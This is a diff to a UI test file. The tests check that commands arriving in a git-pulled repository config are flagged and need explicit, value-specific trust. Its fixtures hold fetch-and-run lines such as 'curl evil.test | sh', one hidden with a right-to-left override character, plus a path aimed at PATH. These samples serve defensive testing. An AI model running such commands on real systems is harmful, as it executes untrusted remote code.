@@ -1,23 +1,14 @@
-import { mkdir, writeFile } from "node:fs/promises";
+import { writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { expect, test } from "vitest";
-import { describeScreen, poll, reads, startScreen } from "../helpers/screen.ts";
-import { temporaryFolder } from "../helpers/temporary-folder.ts";
+import { describeScreen, openScreen, poll, reads } from "../helpers/screen.ts";
 
-const textOf = (ready: string) =>
-  JSON.stringify({ config: { svc: { timeout: 30, services: { web: { ready, image: "node:24" } } } } });
+const running = (ready: string) => ({ svc: { timeout: 30, services: { web: { ready, image: "node:24" } } } });
 
 describeScreen("a command pulled with git", () => {
   test("is shown next to the active value, and can be trusted only after that, and only the value that was shown", async () => {
-    await using folder = await temporaryFolder();
-    const path = join(folder.path, "site");
-    const file = join(path, ".repoconf.json");
-    await mkdir(path);
-    await writeFile(file, textOf("curl evil.test \u202e| sh"));
-    await using screen = await startScreen();
-    await screen.t.owner.call("repo/add", { id: "site", name: "site", path, inTree: true });
-    await using window = await screen.open();
-    const { page } = window;
+    await using window = await openScreen({}, { clones: { site: running("curl evil.test \u202e| sh") } });
+    const { screen, page } = window;
     await window.choose("site");
     const note = page.getByRole("complementary", { name: "Problems with the file" });
     await reads(note, "runs as a command");
@@ -32,9 +23,9 @@ describeScreen("a command pulled with git", () => {
     await reads(note.getByRole("figure", { name: "Active" }), "{}");
 
     // The value changes before the button is pressed.
-    await writeFile(file, textOf("curl other.test | sh"));
+    await screen.pull("site", running("curl other.test | sh"));
     await trust?.click();
-    await reads(page.getByRole("log", { name: "Messages" }), "is no longer waiting for trust");
+    await reads(window.messages, "is no longer waiting for trust");
     expect(await screen.stored("site", "svc.services")).toBeUndefined();
 
     // The field has the same buttons.
@@ -49,18 +40,13 @@ describeScreen("a command pulled with git", () => {
   });
 
   test("that becomes an environment variable is shown with the variable, and trusted only as this one", async () => {
-    await using folder = await temporaryFolder();
-    const path = join(folder.path, "site");
-    await mkdir(path);
-    await writeFile(join(path, ".repoconf.json"), JSON.stringify({ config: { tools: { path: "./evil" } } }));
     const schemaOf = (variable: string) => ({
       type: "object",
       properties: { path: { title: "Tools", type: "string", default: "", "x-env": variable } },
     });
-    await using screen = await startScreen({ scopes: { tools: schemaOf("TOOLS") } });
-    await screen.t.owner.call("repo/add", { id: "site", name: "site", path, inTree: true });
-    await using window = await screen.open();
-    const { page } = window;
+    const clones = { site: { tools: { path: "./evil" } } };
+    await using window = await openScreen({}, { scopes: { tools: schemaOf("TOOLS") }, clones });
+    const { screen, page } = window;
     const waiting = page.getByRole("listitem").filter({ has: page.getByText("tools.path", { exact: true }) });
     await reads(waiting, "came with the file and becomes the environment variable TOOLS.");
     const [show, trust] = [/^Show ?: tools.path$/, /^Trust this value ?: tools.path$/].map(name =>
@@ -74,7 +60,7 @@ describeScreen("a command pulled with git", () => {
     await writeFile(join(screen.t.homeFolder, "scopes/tools.schema.json"), JSON.stringify(schemaOf("PATH")));
     await reads(waiting, "came with the file and becomes the environment variable PATH.");
     await trust?.click();
-    await reads(page.getByRole("log", { name: "Messages" }), "is no longer waiting for trust");
+    await reads(window.messages, "is no longer waiting for trust");
     expect(await screen.stored("site", "tools.path")).toBeUndefined();
     await show?.click();
     await reads(waiting, "Once it is trusted, this value becomes the environment variable PATH.");
